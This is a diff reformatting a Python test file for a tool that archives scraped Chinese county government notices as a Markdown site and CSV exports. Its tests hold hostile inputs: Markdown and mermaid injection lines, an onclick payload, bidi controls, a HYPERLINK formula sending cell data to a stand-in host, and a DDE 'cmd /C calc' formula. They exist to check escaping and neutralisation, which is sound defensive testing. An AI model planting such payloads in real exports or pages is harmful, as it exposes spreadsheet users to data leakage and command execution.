@@ -37,17 +37,58 @@ from .maintainer import built_project, cli, one_error_line, snapshot
 # The heading syntax `# …` is left out: a scrape's own Markdown heading is read as a heading on
 # purpose (ingest/structure.py), and `**` around text as the scrape's bold.
 MARKUP_LINES = [
-    "~~~mermaid", "flowchart LR", "  a[点击] --> b", 'click a "https://example.com/steal"', "~~~",
-    "```mermaid", "```", "~~~~ {.python}", "````", "~~~",
-    "::: note", "!!! warning \"注意\"", "??? info", "/// details", ":::",
-    "{: .danger onclick=\"pwned()\" }", "{#fake-anchor}", "文字{: #s1-p1 }",
-    "<div markdown>粗体</div>", "<b>粗</b>&amp;&#126;", "&lt;script&gt;",
-    "[链接](https://example.com)", "![图片](https://example.com/x.png)", "<https://example.com>",
-    "[参考]: https://example.com", "[^1]: 脚注", "脚注引用[^1]",
-    "| 甲 | 乙 |", "|---|---|", "| 丙 | 丁 |",
-    "======", "------", "***", "___", "> 引用", "- 列表", "+ 列表", "* 列表", "1. 列表", "2024. 年份",
-    "[TOC]", "反斜杠\\", "`代码`", "*强调*", "_强调_", "~~删除~~", "==标记==", "^^插入^^", "++Ctrl++", "$x^2$",
-    ":smile:", "--8<-- \"secret.txt\"",
+    "~~~mermaid",
+    "flowchart LR",
+    "  a[点击] --> b",
+    'click a "https://example.com/steal"',
+    "~~~",
+    "```mermaid",
+    "```",
+    "~~~~ {.python}",
+    "````",
+    "~~~",
+    "::: note",
+    '!!! warning "注意"',
+    "??? info",
+    "/// details",
+    ":::",
+    '{: .danger onclick="pwned()" }',
+    "{#fake-anchor}",
+    "文字{: #s1-p1 }",
+    "<div markdown>粗体</div>",
+    "<b>粗</b>&amp;&#126;",
+    "&lt;script&gt;",
+    "[链接](https://example.com)",
+    "![图片](https://example.com/x.png)",
+    "<https://example.com>",
+    "[参考]: https://example.com",
+    "[^1]: 脚注",
+    "脚注引用[^1]",
+    "| 甲 | 乙 |",
+    "|---|---|",
+    "| 丙 | 丁 |",
+    "======",
+    "------",
+    "***",
+    "___",
+    "> 引用",
+    "- 列表",
+    "+ 列表",
+    "* 列表",
+    "1. 列表",
+    "2024. 年份",
+    "[TOC]",
+    "反斜杠\\",
+    "`代码`",
+    "*强调*",
+    "_强调_",
+    "~~删除~~",
+    "==标记==",
+    "^^插入^^",
+    "++Ctrl++",
+    "$x^2$",
+    ":smile:",
+    '--8<-- "secret.txt"',
 ]
 
 
@@ -57,7 +98,9 @@ def site_markdown():
     from mkdocs.config import load_config
 
     config = load_config(str(ROOT / "mkdocs.yml"))
-    return markdown.Markdown(extensions=config["markdown_extensions"], extension_configs=config["mdx_configs"])
+    return markdown.Markdown(
+        extensions=config["markdown_extensions"], extension_configs=config["mdx_configs"]
+    )
 
 
 def html_of(site_markdown, page: str) -> BeautifulSoup:
@@ -85,7 +128,9 @@ def test_markdown_syntax_in_the_text_stays_text_on_the_page(site_markdown):
     pipeline_made = {"h1", "h2", "h3", "h4", "p", "strong", "a"}
     tags = {tag.name for tag in html.find_all(True)}
     assert tags <= pipeline_made, f"markup made from text: {tags - pipeline_made}"
-    assert not html.find("a", href=lambda href: href and not href.startswith("#")), "a link made from text"
+    assert not html.find("a", href=lambda href: href and not href.startswith("#")), (
+        "a link made from text"
+    )
     assert not html.select(".mermaid, pre, code, table, ol, ul, blockquote, hr, img, sup, div")
     assert not html.find(id="fake-anchor") and not html.find(class_="danger")
     shown = folded(html.get_text())
@@ -96,26 +141,48 @@ def test_markdown_syntax_in_the_text_stays_text_on_the_page(site_markdown):
     assert all(html.find(id=anchor) is not None for anchor in anchors)
 
 
-@pytest.mark.parametrize("line", ["~~~mermaid", "```mermaid", ":::note", "!!! note", "======", "- 列表", "| 甲 | 乙 |",
-                                  "1. 列表", "{: .x }", "<b>x</b>"])
+@pytest.mark.parametrize(
+    "line",
+    [
+        "~~~mermaid",
+        "```mermaid",
+        ":::note",
+        "!!! note",
+        "======",
+        "- 列表",
+        "| 甲 | 乙 |",
+        "1. 列表",
+        "{: .x }",
+        "<b>x</b>",
+    ],
+)
 def test_a_title_that_is_markup_stays_text_in_headings_and_lists(site_markdown, line):
     title = f"{line}关于加强县域经济工作的通知"
     sidecar = {"overrides": {"title": title}}
-    doc = convert_text(hostile_text(["推进县域经济高质量发展。"]), Path("hostile-title.txt"), sidecar)
+    doc = convert_text(
+        hostile_text(["推进县域经济高质量发展。"]), Path("hostile-title.txt"), sidecar
+    )
     html = html_of(site_markdown, render(doc))
     assert html.h1.get_text() == title
     assert not html.select(".mermaid, pre, code, table, ol, ul, div, b")
     # the same escape in a list item and a table cell (the browse and target pages use it)
-    listed = BeautifulSoup(site_markdown.reset().convert(f"- [{escape(title)}](x.md)\n\n| {escape(title)} | 2 |\n| --- | --- |"),
-                           "html.parser")
+    listed = BeautifulSoup(
+        site_markdown.reset().convert(
+            f"- [{escape(title)}](x.md)\n\n| {escape(title)} | 2 |\n| --- | --- |"
+        ),
+        "html.parser",
+    )
     assert listed.a.get_text() == title
-    assert [td.get_text() for td in listed.select("td")] == [title, "2"] or \
-        [th.get_text() for th in listed.select("th")] == [title, "2"]
+    assert [td.get_text() for td in listed.select("td")] == [title, "2"] or [
+        th.get_text() for th in listed.select("th")
+    ] == [title, "2"]
 
 
 def test_a_pipe_in_a_table_cell_stays_in_its_cell(site_markdown):
-    html = BeautifulSoup(site_markdown.reset().convert(f"| {escape('甲|乙')} | 丙 |\n| --- | --- |\n| 1 | 2 |"),
-                         "html.parser")
+    html = BeautifulSoup(
+        site_markdown.reset().convert(f"| {escape('甲|乙')} | 丙 |\n| --- | --- |\n| 1 | 2 |"),
+        "html.parser",
+    )
     assert [th.get_text() for th in html.select("th")] == ["甲|乙", "丙"]
 
 
@@ -128,10 +195,22 @@ def test_search_and_feed_text_hold_the_markup_lines_as_written():
 
 # --- fields: one line, no bidi controls -----------------------------------------------------
 
-@pytest.mark.parametrize("value", ["衡南县方案\n~~~mermaid\nflowchart LR\n~~~", "衡南县\r方案", "衡南县\u2028方案",
-                                   "衡南县\x85方案", "衡南\u202e县方案", "衡南县\u2066方案\u2069"])
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "衡南县方案\n~~~mermaid\nflowchart LR\n~~~",
+        "衡南县\r方案",
+        "衡南县\u2028方案",
+        "衡南县\x85方案",
+        "衡南\u202e县方案",
+        "衡南县\u2066方案\u2069",
+    ],
+)
 def test_a_sidecar_field_on_more_than_one_line_or_with_bidi_controls_is_refused(value):
-    content = f"overrides:\n  title: {json.dumps(value)}\n"  # YAML's double quotes take JSON's escapes
+    content = (
+        f"overrides:\n  title: {json.dumps(value)}\n"  # YAML's double quotes take JSON's escapes
+    )
     with pytest.raises(SourceError) as refused:
         parse_sidecar(content, Path("sources/x.yml"))
     message = str(refused.value)
@@ -143,15 +222,25 @@ def test_add_refuses_a_multi_line_title_and_changes_nothing(tmp_path):
     raw = tmp_path / "notice.txt"
     raw.write_text(hostile_text(["推进县域经济高质量发展。"]), encoding="utf-8")
     before = snapshot(project)
-    result = cli("add", str(raw), "--root", str(project), "--date", "2024-06-01",
-                 "--title", "某县方案\n```mermaid\nflowchart LR\n  a --> b\n  click a \"https://example.com\"\n```")
+    result = cli(
+        "add",
+        str(raw),
+        "--root",
+        str(project),
+        "--date",
+        "2024-06-01",
+        "--title",
+        '某县方案\n```mermaid\nflowchart LR\n  a --> b\n  click a "https://example.com"\n```',
+    )
     line = one_error_line(result, str(raw))
     assert "title" in line and "one line" in line
     assert snapshot(project) == before
 
 
 def test_bidi_controls_in_the_text_are_removed_and_reported():
-    text = hostile_text(["推进\u202e县域经济\u202c高质量发展。"]).replace("某县人民政府关于", "某县\u202e人民政府关于", 1)
+    text = hostile_text(["推进\u202e县域经济\u202c高质量发展。"]).replace(
+        "某县人民政府关于", "某县\u202e人民政府关于", 1
+    )
     doc = convert_text(text, Path("bidi.txt"))
     page = render(doc)
     assert "\u202e" not in doc.meta["title"] and "\u202e" not in page and "\u202c" not in page
@@ -161,9 +250,11 @@ def test_bidi_controls_in_the_text_are_removed_and_reported():
 
 
 def test_bidi_controls_in_a_page_s_metadata_table_are_removed_and_reported():
-    page = ("<html><body><table><tr><td>发文机关：</td><td>某县\u202e人民政府</td></tr>"
-            "<tr><td>标题：</td><td>某县关于加强\u2028县域经济工作的通知</td></tr></table>"
-            "<p>某县关于加强县域经济工作的通知</p><p>各乡镇人民政府：</p><p>推进县域经济高质量发展。</p></body></html>")
+    page = (
+        "<html><body><table><tr><td>发文机关：</td><td>某县\u202e人民政府</td></tr>"
+        "<tr><td>标题：</td><td>某县关于加强\u2028县域经济工作的通知</td></tr></table>"
+        "<p>某县关于加强县域经济工作的通知</p><p>各乡镇人民政府：</p><p>推进县域经济高质量发展。</p></body></html>"
+    )
     doc = convert_bytes(page.encode("utf-8"), Path("bidi.html"), {})
     assert doc.meta["issuer"] == "某县人民政府"
     assert "\u2028" not in doc.meta["title"]  # a page's table cell is folded as it is read
@@ -171,18 +262,26 @@ def test_bidi_controls_in_a_page_s_metadata_table_are_removed_and_reported():
 
 
 def test_a_title_with_u0085_survives_the_front_matter_or_is_reported():
-    doc = convert_text(hostile_text(["推进县域经济高质量发展。"]).replace("县域经济工作", "县域\x85经济工作", 1),
-                       Path("nel.txt"))
+    doc = convert_text(
+        hostile_text(["推进县域经济高质量发展。"]).replace("县域经济工作", "县域\x85经济工作", 1),
+        Path("nel.txt"),
+    )
     front = yaml.safe_load(render(doc).split("\n---\n", 1)[0].removeprefix("---\n"))
-    assert front["title"] == doc.meta["title"]  # what the site reads back is what the pipeline wrote
+    assert (
+        front["title"] == doc.meta["title"]
+    )  # what the site reads back is what the pipeline wrote
     assert any("U+0085" in w for w in doc.warnings)
     assert "\x85" in render(doc).split("\n---\n", 1)[1]  # the source's line, as it is, on the page
 
 
 # --- CSV cells a spreadsheet would evaluate -------------------------------------------------
 
-FORMULAS = {"title": '=HYPERLINK("https://example.com/?"&A1,"点击查看")关于县域经济的通知',
-            "issuer": "@SUM(1+1)*cmd|' /C calc'!A0", "region": "+衡南县", "doc_number": "-2+3号"}
+FORMULAS = {
+    "title": '=HYPERLINK("https://example.com/?"&A1,"点击查看")关于县域经济的通知',
+    "issuer": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "region": "+衡南县",
+    "doc_number": "-2+3号",
+}
 
 
 def test_documents_csv_neutralises_formulas_and_json_keeps_them():
@@ -202,14 +301,23 @@ def test_documents_csv_neutralises_formulas_and_json_keeps_them():
 def test_a_number_stays_a_number_in_csv():
     assert export.spreadsheet_safe("-3.5") == "-3.5" and export.spreadsheet_safe("+12") == "+12"
     assert export.spreadsheet_safe("-3.5+A1") == "'-3.5+A1"
-    assert export.spreadsheet_safe("\t=1+1") == "'\t=1+1" and export.spreadsheet_safe("\r=1") == "'\r=1" and export.spreadsheet_safe("衡南县") == "衡南县"
+    assert (
+        export.spreadsheet_safe("\t=1+1") == "'\t=1+1"
+        and export.spreadsheet_safe("\r=1") == "'\r=1"
+        and export.spreadsheet_safe("衡南县") == "衡南县"
+    )
 
 
 # --- budgets -----------------------------------------------------------------------------------
 
+
 def nested_divs(depth: int) -> bytes:
-    return ("<html><body><p>某县关于加强县域经济工作的通知</p>" + "<div>字" * depth + "</div>" * depth
-            + "</body></html>").encode("utf-8")
+    return (
+        "<html><body><p>某县关于加强县域经济工作的通知</p>"
+        + "<div>字" * depth
+        + "</div>" * depth
+        + "</body></html>"
+    ).encode("utf-8")
 
 
 def test_a_page_nested_past_the_budget_is_refused_in_one_line(tmp_path):
@@ -218,7 +326,9 @@ def test_a_page_nested_past_the_budget_is_refused_in_one_line(tmp_path):
     with pytest.raises(SourceError) as refused:
         convert_file(deep, {})
     message = str(refused.value)
-    assert message.startswith(f"{deep}:1: nests its elements more than {html_source.MAX_DEPTH} deep")
+    assert message.startswith(
+        f"{deep}:1: nests its elements more than {html_source.MAX_DEPTH} deep"
+    )
     assert "\n" not in message
 
 
@@ -240,9 +350,13 @@ def test_a_text_past_the_budget_is_refused_in_one_line(tmp_path):
     big.write_text(text, encoding="utf-8")
     with pytest.raises(SourceError) as refused:
         convert_file(big, {})
-    assert str(refused.value).startswith(f"{big}: has {len(text):,} characters of text, over the budget of {convert.MAX_CHARS:,}")
+    assert str(refused.value).startswith(
+        f"{big}: has {len(text):,} characters of text, over the budget of {convert.MAX_CHARS:,}"
+    )
     one_line = tmp_path / "one-line.txt"  # a scrape that lost its line ends
-    one_line.write_text("某县关于加强县域经济工作的通知\n" + "推进县域经济高质量发展。" * 100_000, encoding="utf-8")
+    one_line.write_text(
+        "某县关于加强县域经济工作的通知\n" + "推进县域经济高质量发展。" * 100_000, encoding="utf-8"
+    )
     with pytest.raises(SourceError) as refused:
         convert_file(one_line, {})
     assert str(refused.value).startswith(f"{one_line}:2: has a line of 1,200,000 characters")
@@ -250,8 +364,12 @@ def test_a_text_past_the_budget_is_refused_in_one_line(tmp_path):
 
 def test_a_page_past_the_budget_is_refused_unread(tmp_path):
     page = tmp_path / "big.html"
-    page.write_text("<html><body><p>某县关于加强县域经济工作的通知</p>" + "<p>推进县域经济高质量发展。</p>" * 500_000
-                    + "</body></html>", encoding="utf-8")
+    page.write_text(
+        "<html><body><p>某县关于加强县域经济工作的通知</p>"
+        + "<p>推进县域经济高质量发展。</p>" * 500_000
+        + "</body></html>",
+        encoding="utf-8",
+    )
     with pytest.raises(SourceError) as refused:
         convert_file(page, {})
     assert str(refused.value).startswith(f"{page}: is a page of ")
@@ -277,16 +395,25 @@ def text_with_inserted_breaks(soup: BeautifulSoup) -> str:
     return re.sub(r"[ \t\u3000\u00a0]*\n[ \t\u3000\u00a0]*", "\n", text)
 
 
-@pytest.mark.parametrize("page", [
-    ("<html><body><h1>标题</h1><div>甲<span>乙</span><br>丙<p>丁</p></div><table><tr><td>第1项</td><td> 1 </td></tr>"
-     "<tr><th>第2项</th><td><p>2</p></td></tr></table><ruby>汉<rt>han</rt></ruby>　\r\n尾</body></html>"),
-    "<div>无 body<ul><li>一</li><li>二<b>三</b></li></ul></div>文字",
-    *[path.read_bytes() for path in sorted((Path(__file__).parent / "fixtures").glob("*.html"))],
-])
+@pytest.mark.parametrize(
+    "page",
+    [
+        (
+            "<html><body><h1>标题</h1><div>甲<span>乙</span><br>丙<p>丁</p></div><table><tr><td>第1项</td><td> 1 </td></tr>"
+            "<tr><th>第2项</th><td><p>2</p></td></tr></table><ruby>汉<rt>han</rt></ruby>　\r\n尾</body></html>"
+        ),
+        "<div>无 body<ul><li>一</li><li>二<b>三</b></li></ul></div>文字",
+        *[
+            path.read_bytes()
+            for path in sorted((Path(__file__).parent / "fixtures").glob("*.html"))
+        ],
+    ],
+)
 def test_page_text_reads_a_page_as_before(page):
     """page_text walks the page once instead of inserting line breaks into it: the same text."""
-    assert html_source.page_text(BeautifulSoup(page, "html.parser")) == \
-        text_with_inserted_breaks(BeautifulSoup(page, "html.parser"))
+    assert html_source.page_text(BeautifulSoup(page, "html.parser")) == text_with_inserted_breaks(
+        BeautifulSoup(page, "html.parser")
+    )
 
 
 def test_a_heading_repeated_thousands_of_times_gets_numbered_anchors():
@@ -295,7 +422,11 @@ def test_a_heading_repeated_thousands_of_times_gets_numbered_anchors():
     blocks = [Block(HEADING, "附则", level=1) for _ in range(3000)]
     assign_anchors(blocks)
     anchors = [b.anchor for b in blocks]
-    assert len(set(anchors)) == 3000 and anchors[1] == anchors[0] + "-2" and anchors[-1] == anchors[0] + "-3000"
+    assert (
+        len(set(anchors)) == 3000
+        and anchors[1] == anchors[0] + "-2"
+        and anchors[-1] == anchors[0] + "-3000"
+    )
 
 
 def test_add_converts_the_new_file_once(tmp_path, monkeypatch):
@@ -314,8 +445,13 @@ def test_add_converts_the_new_file_once(tmp_path, monkeypatch):
 
     monkeypatch.setattr(convert, "convert_bytes", counting)
     monkeypatch.setenv("ARCHIVE_JOBS", "1")  # every conversion in this process, where it is counted
-    target = add(project, raw, url="https://www.example.gov.cn/a.html", retrieved="2025-01-20",
-                 out=io.StringIO())
+    target = add(
+        project,
+        raw,
+        url="https://www.example.gov.cn/a.html",
+        retrieved="2025-01-20",
+        out=io.StringIO(),
+    )
     assert converted.count(raw.name) + converted.count(target.name) == 1
     # and the page is what converting the file in sources/ gives
     rebuilt = cli("build", "--root", str(project), "--no-cache")
@@ -325,8 +461,10 @@ def test_add_converts_the_new_file_once(tmp_path, monkeypatch):
 
 # --- a first line that is not a title ----------------------------------------------------------
 
-UNTITLED = ("-2+3=1，推进县域经济高质量发展，各乡镇要高度重视。\n衡政发〔2024〕3号\n\n各乡镇人民政府：\n\n"
-            "一、总体要求\n\n按照衡政发〔2024〕3号的要求推进县域经济高质量发展。\n\n衡南县人民政府\n2024年6月1日\n")
+UNTITLED = (
+    "-2+3=1，推进县域经济高质量发展，各乡镇要高度重视。\n衡政发〔2024〕3号\n\n各乡镇人民政府：\n\n"
+    "一、总体要求\n\n按照衡政发〔2024〕3号的要求推进县域经济高质量发展。\n\n衡南县人民政府\n2024年6月1日\n"
+)
 
 
 def test_add_refuses_a_document_whose_title_it_cannot_find_and_says_how(tmp_path):
@@ -338,11 +476,26 @@ def test_add_refuses_a_document_whose_title_it_cannot_find_and_says_how(tmp_path
     assert "no title" in line and "--title" in line and "--doc-number" in line
     assert snapshot(project) == before
     # given them, the page has its title and its own 文号 is not a document the archive lacks
-    result = cli("add", str(raw), "--root", str(project), "--title=-2+3产业集群培育行动方案",
-                 "--doc-number", "衡政发〔2024〕3号")
+    result = cli(
+        "add",
+        str(raw),
+        "--root",
+        str(project),
+        "--title=-2+3产业集群培育行动方案",
+        "--doc-number",
+        "衡政发〔2024〕3号",
+    )
     assert result.returncode == 0, result.stderr
-    added = [p for p in (project / "docs" / "doc").glob("*.md") if "衡政发〔2024〕3号" in p.read_text(encoding="utf-8")]
-    assert len(added) == 1 and "\n# \\-2+3产业集群培育行动方案\n" in added[0].read_text(encoding="utf-8")
+    added = [
+        p
+        for p in (project / "docs" / "doc").glob("*.md")
+        if "衡政发〔2024〕3号" in p.read_text(encoding="utf-8")
+    ]
+    assert len(added) == 1 and "\n# \\-2+3产业集群培育行动方案\n" in added[0].read_text(
+        encoding="utf-8"
+    )
     wanted = "".join(p.read_text(encoding="utf-8") for p in (project / "docs").rglob("wanted*.md"))
-    wanted += "".join(p.read_text(encoding="utf-8") for p in (project / "docs" / "wanted").glob("*.md"))
+    wanted += "".join(
+        p.read_text(encoding="utf-8") for p in (project / "docs" / "wanted").glob("*.md")
+    )
     assert "衡政发〔2024〕3号" not in wanted
